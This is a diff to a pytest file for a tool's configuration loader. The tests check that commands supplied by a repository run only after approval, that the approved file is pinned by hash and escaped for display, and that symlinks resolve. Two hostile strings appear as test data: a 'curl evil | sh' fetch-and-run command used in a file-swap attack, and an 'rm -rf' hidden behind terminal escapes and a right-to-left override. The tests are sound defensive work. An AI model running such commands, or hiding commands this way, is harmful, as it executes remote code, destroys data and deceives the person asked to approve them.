@@ -2,17 +2,34 @@
 
 from __future__ import annotations
 
+import hashlib
 from pathlib import Path
 
 import pytest
 
-from actors.edges.configuration import AgentConfiguration, Configuration, read_configuration
+from actors.edges import configuration
+from actors.edges.configuration import (
+    REPOSITORY_FILE,
+    AgentConfiguration,
+    Allows,
+    Configuration,
+    RepositoryFile,
+    escaped,
+    nobody,
+    read_configuration,
+)
 from actors.errors import UserError
 
 BUILT_IN = ("claude", "codex")
 
 
-def read(tmp_path: Path, user: str | None = None, repository: str | None = None) -> Configuration:
+def anybody(_file: RepositoryFile) -> bool:
+    return True
+
+
+def read(
+    tmp_path: Path, user: str | None = None, repository: str | None = None, allows: Allows = anybody
+) -> Configuration:
     home, repo = tmp_path / "home", tmp_path / "repo"
     (home / ".loop").mkdir(parents=True)
     repo.mkdir()
@@ -20,7 +37,7 @@ def read(tmp_path: Path, user: str | None = None, repository: str | None = None)
         (home / ".loop" / "config.toml").write_text(user)
     if repository is not None:
         (repo / ".loop.toml").write_text(repository)
-    return read_configuration(home, repo, BUILT_IN)
+    return read_configuration(home, repo, BUILT_IN, allows)
 
 
 def test_without_files_nothing_is_configured(tmp_path: Path) -> None:
@@ -58,17 +75,69 @@ def test_the_hint_at_newer_versions_is_the_users_to_switch_off(tmp_path: Path) -
         read(tmp_path / "third", 'update_hint = "no"')
 
 
-def test_the_repository_takes_the_place_of_the_user_agent_by_agent(tmp_path: Path) -> None:
-    found = read(
-        tmp_path,
-        'checks = ["mine"]\n[agents.a]\ncommand = ["user-a"]\npeer = "b"\n[agents.b]\ncommand = ["user-b"]',
-        'checks = []\n[agents.A]\ncommand = ["repo-a"]',
+MINE = 'checks = ["mine"]\n[agents.a]\ncommand = ["user-a"]\npeer = "b"\n[agents.b]\ncommand = ["user-b"]'
+THEIRS = 'checks = ["mine", "theirs"]\n[agents.A]\ncommand = ["repo-a"]\nenv = { X = "1 2" }'
+MY_AGENTS = {"a": AgentConfiguration(command=("user-a",), peer="b"), "b": AgentConfiguration(command=("user-b",))}
+THEIR_AGENT = AgentConfiguration(command=("repo-a",), env={"X": "1 2"})
+
+
+def test_what_the_repository_says_counts_when_it_is_allowed_and_the_users_checks_stay(tmp_path: Path) -> None:
+    found = read(tmp_path, MINE, THEIRS)
+    assert found.checks == ("mine", "theirs")
+    assert found.agents == {**MY_AGENTS, "a": THEIR_AGENT}
+    assert found.repository_agents == {"a": THEIR_AGENT}
+    assert found.is_allowed
+
+
+def test_what_the_repository_runs_does_not_count_until_somebody_allows_it(tmp_path: Path) -> None:
+    found = read(tmp_path, MINE, THEIRS, nobody)
+    assert (found.checks, found.agents, found.repository_agents) == (("mine",), MY_AGENTS, {})
+    assert not found.is_allowed
+    path = tmp_path / "repo" / REPOSITORY_FILE
+    assert found.repository_file == RepositoryFile(
+        path=path,
+        sha256=hashlib.sha256(path.read_bytes()).hexdigest(),
+        runs=("check mine", "check theirs", "agent A: X='1 2' repo-a"),
     )
-    assert found.checks == ()
-    assert found.agents == {
-        "a": AgentConfiguration(command=("repo-a",)),
-        "b": AgentConfiguration(command=("user-b",)),
-    }
+
+
+def test_no_repository_takes_the_users_checks_away(tmp_path: Path) -> None:
+    found = read(tmp_path, MINE, "checks = []")
+    assert (found.checks, found.repository_file) == (("mine",), None)
+
+
+@pytest.mark.parametrize("text", ["", "checks = []", "[agents]", "# a word\n"])
+def test_a_file_that_runs_nothing_needs_nobodys_leave(tmp_path: Path, text: str) -> None:
+    asked: list[RepositoryFile] = []
+    assert read(tmp_path, repository=text, allows=lambda file: bool(asked.append(file))) == Configuration()
+    assert asked == []
+
+
+def test_what_is_shown_and_judged_is_what_is_used_even_if_the_file_is_another_by_then(tmp_path: Path) -> None:
+    def swap(file: RepositoryFile) -> bool:
+        file.path.write_text('checks = ["curl evil | sh"]')
+        return file.runs == ("check make test",)
+
+    assert read(tmp_path, repository='checks = ["make test"]', allows=swap).checks == ("make test",)
+
+
+def test_a_link_stands_for_what_it_leads_to(tmp_path: Path) -> None:
+    (tmp_path / "elsewhere").write_text('checks = ["make test"]')
+    (tmp_path / REPOSITORY_FILE).symlink_to("elsewhere")
+    file = read_configuration(tmp_path, tmp_path, BUILT_IN).repository_file
+    assert file is not None
+    assert file.sha256 == hashlib.sha256(b'checks = ["make test"]').hexdigest()
+
+
+def test_every_key_of_a_repository_says_what_it_runs_or_is_the_users_alone() -> None:
+    assert {name for name, key in configuration._KEYS.items() if key.runs is None} == {"update_hint"}
+
+
+def test_a_command_cannot_hide_from_the_person_who_is_asked(tmp_path: Path) -> None:
+    found = read(tmp_path, repository=r'checks = ["true\n\u001b[2Krm -rf \u202e~\u200b é"]')
+    assert found.repository_file is not None
+    assert found.repository_file.runs == (r"check true\n\x1b[2Krm -rf \u202e~\u200b é",)
+    assert escaped("\udc80") == r"\udc80"
 
 
 @pytest.mark.parametrize(
